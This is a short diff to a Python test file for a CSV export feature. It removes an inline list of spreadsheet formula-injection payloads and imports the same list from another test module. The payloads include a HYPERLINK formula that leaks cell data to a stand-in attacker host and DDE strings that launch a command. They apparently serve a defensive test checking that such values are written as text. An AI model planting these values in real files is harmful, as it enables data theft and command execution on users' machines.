@@ -31,6 +31,7 @@ from tests.greenmine_api.support import (
 from tests.greenmine_api.support import (
     close as close_pub,
 )
+from tests.servicekit.test_csv_export import FORMULAS
 
 
 async def failed_review(gm):
@@ -451,16 +452,6 @@ async def test_a_new_case_during_relisting_publicity_defers_the_relisting(gm):
     assert detail["status"] == "rectifying" and detail["benefits_suspended"]
     assert "relisting_deferred" in [h["action"] for h in detail["history"]]
     assert await events(gm, "greenmine.benefits.restored") == []
-
-
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
 
 
 async def test_the_list_csv_writes_formula_like_names_as_text(gm):
